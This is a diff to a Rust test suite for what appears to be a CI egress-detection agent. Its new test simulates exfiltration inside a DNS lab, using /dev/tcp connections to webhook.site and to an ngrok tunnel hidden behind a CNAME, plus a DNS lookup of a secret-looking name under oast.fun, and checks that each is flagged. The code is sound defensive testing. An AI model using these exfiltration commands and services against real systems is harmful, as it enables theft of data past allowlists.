@@ -40,6 +40,7 @@ impl DnsLab {
                 "10.77.0.4/32",
                 "10.77.0.5/32",
                 "10.77.0.9/32",
+                "10.77.0.6/32",
                 "fd77::1/128",
                 "fd77::2/128",
             ],
@@ -83,6 +84,11 @@ impl DnsLab {
                 "--cname=www.badalias.test,edge.cdn-other.test",
                 "--address=/exfil.test/10.77.0.9",
                 "--address=/tunnel.test/10.77.0.9",
+                // Known exfiltration services, answered by the lab: nothing leaves.
+                "--address=/webhook.site/10.77.0.6",
+                "--host-record=x7.ngrok-free.app,10.77.0.6",
+                "--cname=build-cache.innocent.test,x7.ngrok-free.app",
+                "--address=/oast.fun/10.77.0.6",
             ])
             .stdout(Stdio::null())
             .stderr(Stdio::null())
@@ -532,5 +538,73 @@ fn a_forged_answer_does_not_make_a_destination_allowed() {
         .find(|f| f["rule"] == "unexpected-egress" && f["evidence"]["address"] == "10.77.0.9")
         .unwrap_or_else(|| panic!("the connection to the forged address passed: {mine:#?}"));
     assert_eq!(egress["evidence"]["resolved"], false, "{egress:#}");
+    drop(lab);
+}
+
+/// Services that take data from anyone are reported whatever the allowlist says: the profile
+/// allows every address, and a step uploads to a request bin, another reaches a tunnel through an
+/// innocent-looking CNAME, a third only asks DNS for a name under an out-of-band collector (the
+/// question is the upload). The lab's sink and resolver log prove each really happened; the
+/// twin connects to an ordinary name under the same allowlist and stays quiet.
+#[test]
+fn known_exfiltration_services_are_reported_whatever_the_allowlist_says() {
+    let _serial = one_at_a_time();
+    let agent =
+        Agent::start_with_profile("version: 1\negress:\n  allow: [\"0.0.0.0/0\", \"::/0\"]\n");
+    let lab = DnsLab::start();
+    let runner = FakeRunner::new();
+    let out = runner.dir.path().join("reached");
+    let connect = |host: &str, tag: &str| {
+        lab.sh(&format!(
+            "exec 3<>/dev/tcp/{host}/8080 && echo {tag} >> {}; exec 3>&-",
+            out.display()
+        ))
+    };
+    let oast = "c0ffee5ecret.oast.fun";
+    runner.run_job(&[
+        ("bin", &connect("abc123.webhook.site", "bin")),
+        ("alias", &connect("build-cache.innocent.test", "alias")),
+        ("oast", &lab.sh(&format!("getent hosts {oast} || true"))),
+        ("twin", &connect("allowed.test", "twin")),
+        MARKER_STEP,
+    ]);
+    // The attacks happened: the connections were accepted, the question reached the resolver.
+    let reached = std::fs::read_to_string(&out).unwrap_or_default();
+    for tag in ["bin", "alias", "twin"] {
+        assert!(
+            reached.lines().any(|l| l == tag),
+            "{tag} did not connect: {reached:?}"
+        );
+    }
+    let log = std::fs::read_to_string(&lab.query_log).unwrap_or_default();
+    assert!(
+        log.contains(oast),
+        "{oast} not in the resolver's log:\n{log}"
+    );
+
+    let mine = agent.findings_through_marker(&runner);
+    let exfil = by_rule(&mine, "known-exfil-service");
+    let in_step = |step: &str| {
+        exfil
+            .iter()
+            .find(|f| f["step"]["id"] == step)
+            .copied()
+            .unwrap_or_else(|| panic!("no known-exfil-service in {step}: {mine:#?}"))
+    };
+    let bin = in_step("bin");
+    assert_eq!(bin["severity"], "critical");
+    assert_eq!(bin["evidence"]["service"], "webhook.site");
+    assert_eq!(bin["evidence"]["address"], "10.77.0.6");
+    let alias = in_step("alias");
+    assert_eq!(alias["evidence"]["service_kind"], "tunnel");
+    assert_eq!(alias["evidence"]["domain"], "build-cache.innocent.test");
+    assert_eq!(alias["evidence"]["matched_name"], "x7.ngrok-free.app");
+    assert_eq!(in_step("oast")["evidence"]["via"], "dns-question");
+    // The allowlist's own destinations are quiet, and no exfiltration is doubled as egress.
+    assert!(
+        !mine.iter().any(|f| f["step"]["id"] == "twin"),
+        "the twin raised: {mine:#?}"
+    );
+    assert!(by_rule(&mine, "unexpected-egress").is_empty(), "{mine:#?}");
     drop(lab);
 }
